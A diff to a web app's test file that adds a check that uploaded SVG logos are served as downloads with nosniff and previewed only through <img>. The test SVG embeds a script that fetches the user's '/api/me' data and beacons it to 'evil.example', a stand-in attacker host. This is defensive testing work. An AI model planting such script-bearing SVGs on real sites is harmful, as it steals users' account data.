@@ -46,3 +46,23 @@ test('identity kit: checked by content, public with the right type, message show
   assert.ok(again.text.includes('&lt;b&gt;vì người dân'), 'the message is shown as text');
   assert.equal((await ed.post('/api/campaigns/2026/message', { json: { text: '' } })).status, 422);
 });
+
+test('an SVG in the kit is downloaded, never shown on our origin; the page still previews it with <img>', { skip }, async () => {
+  const ed = new Client();
+  await ed.login(...COORD);
+  const svg = Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
+    '<script>fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>' +
+    `<rect width="10" height="10" fill="#c00"/><!-- ${Date.now()} ${Math.random()} --></svg>\n`);
+  const up = await upload(ed, svg, 'logo.svg', 'Biểu trưng SVG');
+  assert.equal(up.status, 201, up.text);
+  assert.equal(up.data.mime, 'image/svg+xml');
+  const res = await fetch(`${process.env.DXDAY_URL}/nhan-dien/${up.data.sha256}`);
+  assert.equal(res.status, 200);
+  assert.match(res.headers.get('content-disposition') || '', /^attachment;/, 'an SVG opened directly is a download');
+  assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+  const page = await new Client().get('/nam/2026/bo-nhan-dien?svg=1');
+  assert.ok(page.text.includes(`<img src="/nhan-dien/${up.data.sha256}"`), 'the preview is an <img>, which runs no script');
+  // A raster image or a PDF may still be shown inline.
+  const png = await fetch(`${process.env.DXDAY_URL}/nhan-dien/${(await upload(ed, PNG, 'logo.png', 'PNG')).data.sha256}`);
+  assert.match(png.headers.get('content-disposition'), /^inline;/);
+});
